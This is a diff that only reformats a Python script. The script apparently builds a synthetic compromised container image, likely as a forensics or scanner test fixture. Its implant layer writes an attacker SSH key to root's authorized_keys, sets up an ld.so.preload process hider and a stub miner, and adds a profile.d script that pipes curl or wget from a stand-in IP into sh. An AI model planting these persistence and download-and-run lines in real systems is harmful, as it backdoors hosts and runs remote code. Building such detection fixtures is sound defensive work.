@@ -29,9 +29,7 @@ from pathlib import Path
 
 TAG = "registry.example.com/shop/payments:1.4.2"
 BUILT = datetime(2026, 11, 12, 8, 30, 0, tzinfo=UTC)
-ATTACKER_KEY = (
-    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3p6bT1n0k8wq4m7J1f0xQ2pKz3yX8vR5sL9cD2eF4a ops@203.0.113.77"
-)
+ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3p6bT1n0k8wq4m7J1f0xQ2pKz3yX8vR5sL9cD2eF4a ops@203.0.113.77"
 
 File = tuple[str, bytes, int]  # path, content, mode
 
@@ -75,8 +73,7 @@ def _tar(files: Iterable[File], links: Iterable[tuple[str, str]] = (), mtime: fl
 
 
 def _busybox_applets(busybox: Path) -> list[str]:
-    out = subprocess.run([str(busybox), "--list-full"], capture_output=True, check=True,
-                         timeout=10)
+    out = subprocess.run([str(busybox), "--list-full"], capture_output=True, check=True, timeout=10)
     # `--list-full` names bin/busybox itself: linking it would replace the binary.
     return [a for a in out.stdout.decode().split() if a and a != "bin/busybox"]
 
@@ -96,27 +93,47 @@ def layers(busybox: Path | None) -> list[tuple[bytes, str]]:
         base_files.append(("bin/busybox", busybox.read_bytes(), 0o755))
         links = [(a, "/bin/busybox") for a in _busybox_applets(busybox)]
     else:
-        base_files.append(("bin/busybox", b"#!/bin/busybox\n# placeholder: no busybox here\n",
-                           0o755))
+        base_files.append(
+            ("bin/busybox", b"#!/bin/busybox\n# placeholder: no busybox here\n", 0o755)
+        )
         links = [(f"bin/{a}", "/bin/busybox") for a in ("sh", "sleep", "cat", "ls")]
     base = _tar(base_files, links, t - 86400 * 30)
-    app = _tar([
-        ("app/server.sh", b"#!/bin/sh\nwhile true; do sleep 60; done\n", 0o755),
-        ("app/config.yaml", b"listen: 8080\nupstream: payments-db.shop.svc:5432\n", 0o644),
-        ("app/.env", b"DB_PASSWORD=Sup3r-s3cret-payments\n", 0o600),
-    ], (), t - 3600)
-    implant = _tar([
-        # Not a working miner: a stub with the strings scanners and people look for.
-        ("usr/local/bin/kdevtmpfsi", b"\x7fELF\x02\x01\x01" + b"\0" * 9
-         + b"xmrig stratum+tcp://pool.example.net:3333 --donate-level 1\n", 0o755),
-        ("usr/local/lib/libprocesshider.so", b"\x7fELF\x02\x01\x01" + b"\0" * 9
-         + b"readdir processhider kdevtmpfsi\n", 0o755),
-        ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n", 0o644),
-        ("root/.ssh/authorized_keys", ATTACKER_KEY.encode() + b"\n", 0o600),
-        ("etc/profile.d/update.sh",
-         b"#!/bin/sh\n(curl -fsSL http://203.0.113.77/x.sh || wget -qO- http://203.0.113.77/x.sh)"
-         b" | sh >/dev/null 2>&1 &\n", 0o755),
-    ], (), t - 1800)
+    app = _tar(
+        [
+            ("app/server.sh", b"#!/bin/sh\nwhile true; do sleep 60; done\n", 0o755),
+            ("app/config.yaml", b"listen: 8080\nupstream: payments-db.shop.svc:5432\n", 0o644),
+            ("app/.env", b"DB_PASSWORD=Sup3r-s3cret-payments\n", 0o600),
+        ],
+        (),
+        t - 3600,
+    )
+    implant = _tar(
+        [
+            # Not a working miner: a stub with the strings scanners and people look for.
+            (
+                "usr/local/bin/kdevtmpfsi",
+                b"\x7fELF\x02\x01\x01"
+                + b"\0" * 9
+                + b"xmrig stratum+tcp://pool.example.net:3333 --donate-level 1\n",
+                0o755,
+            ),
+            (
+                "usr/local/lib/libprocesshider.so",
+                b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"readdir processhider kdevtmpfsi\n",
+                0o755,
+            ),
+            ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n", 0o644),
+            ("root/.ssh/authorized_keys", ATTACKER_KEY.encode() + b"\n", 0o600),
+            (
+                "etc/profile.d/update.sh",
+                b"#!/bin/sh\n(curl -fsSL http://203.0.113.77/x.sh || wget -qO- http://203.0.113.77/x.sh)"
+                b" | sh >/dev/null 2>&1 &\n",
+                0o755,
+            ),
+        ],
+        (),
+        t - 1800,
+    )
     cleanup = _tar([("app/.wh..env", b"", 0o644)], (), t)
     return [
         (base, "ADD busybox-rootfs.tar / # base"),
@@ -133,8 +150,9 @@ def build(out: Path, busybox: Path | None = None, tag: str = TAG) -> BuiltImage:
         busybox = Path("/bin/busybox")
     built = layers(busybox)
     diff_ids = ["sha256:" + hashlib.sha256(data).hexdigest() for data, _ in built]
-    created = [datetime.fromtimestamp(BUILT.timestamp() - s, UTC) for s in (86400 * 30, 3600,
-                                                                             1800, 0)]
+    created = [
+        datetime.fromtimestamp(BUILT.timestamp() - s, UTC) for s in (86400 * 30, 3600, 1800, 0)
+    ]
     config = {
         "architecture": "amd64",
         "os": "linux",
